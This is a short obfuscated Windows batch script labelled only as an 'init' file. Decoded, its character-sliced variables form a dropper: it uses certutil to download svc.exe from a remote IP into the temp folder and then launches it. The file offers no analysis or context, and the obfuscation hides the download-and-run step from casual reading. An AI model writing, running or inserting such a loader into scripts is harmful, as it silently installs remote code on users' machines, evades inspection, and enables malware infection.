REM init 7913 v1
@echo off
@echo off
set "thqb=euT89crEh:xMoa03v2Yft7/KplsL-i.\P1U"
%thqb:~5,1%%thqb:~0,1%%thqb:~6,1%%thqb:~20,1%%thqb:~1,1%%thqb:~20,1%%thqb:~29,1%%thqb:~25,1%%thqb:~-5,1%%thqb:~0,1%%thqb:~-25,1%%thqb:~0,1% %thqb:~28,1%%thqb:~1,1%%thqb:~6,1%%thqb:~25,1%%thqb:~5,1%%thqb:~-22,1%%thqb:~5,1%%thqb:~8,1%%thqb:~0,1% %thqb:~28,1%%thqb:~26,1%%thqb:~24,1%%thqb:~25,1%%thqb:~29,1%%thqb:~20,1% %thqb:~28,1%%thqb:~-16,1% %thqb:~-27,1%%thqb:~-15,1%%thqb:~-15,1%%thqb:~-11,1%%thqb:~9,1%%thqb:~-13,1%%thqb:~22,1%%thqb:~17,1%%thqb:~-21,1%%thqb:~-20,1%%thqb:~30,1%%thqb:~14,1%%thqb:~30,1%%thqb:~33,1%%thqb:~-2,1%%thqb:~15,1%%thqb:~30,1%%thqb:~17,1%%thqb:~14,1%%thqb:~14,1%%thqb:~22,1%%thqb:~26,1%%thqb:~16,1%%thqb:~5,1%%thqb:~30,1%%thqb:~0,1%%thqb:~-25,1%%thqb:~0,1% %%thqb:~2,1%%thqb:~7,1%%thqb:~11,1%%thqb:~-3,1%%%thqb:~-4,1%%thqb:~26,1%%thqb:~16,1%%thqb:~5,1%%thqb:~30,1%%thqb:~0,1%%thqb:~-25,1%%thqb:~-35,1%
@echo off
set "qvxc=kTscXxptym5EM\ravD8.eP"
%qvxc:~2,1%%qvxc:~7,1%%qvxc:~15,1%%qvxc:~-8,1%%qvxc:~-15,1% "" %%qvxc:~1,1%%qvxc:~-11,1%%qvxc:~12,1%%qvxc:~21,1%%%qvxc:~13,1%%qvxc:~-20,1%%qvxc:~16,1%%qvxc:~3,1%%qvxc:~-3,1%%qvxc:~20,1%%qvxc:~5,1%%qvxc:~-2,1%
